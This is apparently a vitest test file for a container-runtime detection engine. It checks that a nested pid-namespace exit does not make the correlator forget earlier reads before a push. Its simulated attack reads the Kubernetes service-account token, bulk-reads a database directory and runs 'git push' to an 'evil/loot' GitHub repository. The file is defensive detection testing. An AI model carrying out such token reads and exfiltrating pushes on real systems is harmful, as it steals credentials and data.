/**
 * A container's state is released `latenessMs` after its init exits. An exit with containerPid 1 that is
 * not the container's init (the init of a nested pid namespace: `unshare -Urpf true`, whose child is pid 1
 * in the namespace it made; both sensors give the pid in the innermost namespace) must not make the
 * correlator forget the reads the container made before its push.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, type Proc, run, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** Other containers of the node keep its clock going while the attacker's container is quiet. */
function quietFor(s: Scenario, ms: number): void {
  const other = s.container({ pod: 'busy' });
  const sh = s.init(other);
  for (let t = 0; t < ms; t += 5_000) s.read(sh, `/srv/busy/${t}`, 10).wait(5_000);
}

describe('an exit with containerPid 1 that is not the container init', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`${source}: the init of a nested pid namespace exiting does not release the reads made before the push`, () => {
      const s = new Scenario({ source });
      const c = s.container({ pod: 'api' });
      const app = s.init(c, '/app/server', '--listen :8080');
      const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
      s.read(bash, TOKEN, 900);
      s.readMany(bash, '/srv/db', 80, MiB, 10);
      // `unshare -Urpf --mount-proc true`: its forked child is pid 1 of the new pid namespace.
      const unshare = s.exec(c, '/usr/bin/unshare', '-Urpf --mount-proc true', { parent: bash });
      const nested: Proc = { ...s.exec(c, '/usr/bin/true', '', { parent: unshare }), containerPid: 1 };
      s.wait(5).exit(nested).wait(5).exit(unshare);
      quietFor(s, 120_000);
      const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
      s.connect(git, GITHUB_IP, 443).send(git, GITHUB_IP, 443, 4096);
      // One event per call (the Falco receiver's shape): the TTL pass runs between them.
      const { alerts } = run(s.events, { batchSize: 1 });
      expect(brief(alerts)).toEqual([
        { rule: 'bulk-read-then-push', severity: 'critical', tool: 'git', destination: 'github.com' },
      ]);
      expect(alerts[0]!.reads.sensitive).toEqual([TOKEN]);
    });
  }
});
